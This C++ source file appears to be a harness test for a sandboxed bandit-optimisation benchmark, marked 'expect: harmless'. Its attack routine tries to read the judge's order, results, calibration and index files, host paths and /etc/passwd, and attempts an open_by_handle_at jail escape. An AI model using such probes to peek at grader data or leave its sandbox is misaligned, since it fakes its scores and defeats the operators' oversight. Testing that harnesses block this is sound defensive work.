// task: optimization-online-bandit
// route: file read
// tries: to read the judge's order, sources, packs and results from wherever they might be mounted
// expect: harmless

#include "shared/bandit.hpp"
#include "shared/probe.hpp"

void attack::begin(const mls::Info& info, mls::Rng&) {
  survive();
  for (const char* path :
       {"/dev/fd/3", "/dev/fd/4", "/proc/self/fd/4", "/judge", "/artefact.mls", "/order.json",
        "/work/order.json", "/home", "/root/.local/share/mls-bench/index.sqlite", "/tmp", "../../judge.cpp",
        "task.toml", "calibration.json", "/usr/share/mls-bench", "/etc/passwd", "/host", "/mls-jail"}) {
    examine(slurp(path), info);
  }
  // By handle, which needs no path.
  struct {
    unsigned bytes = 8;
    int type = 1;
    unsigned char handle[8] = {2};
  } handle;
  const long fd = call(SYS_open_by_handle_at, AT_FDCWD, address(&handle), O_RDONLY);
  char block[4096];
  if (fd >= 0 && call(SYS_read, fd, address(block), sizeof block) > 0)
    examine(std::string(block, sizeof block), info);
}
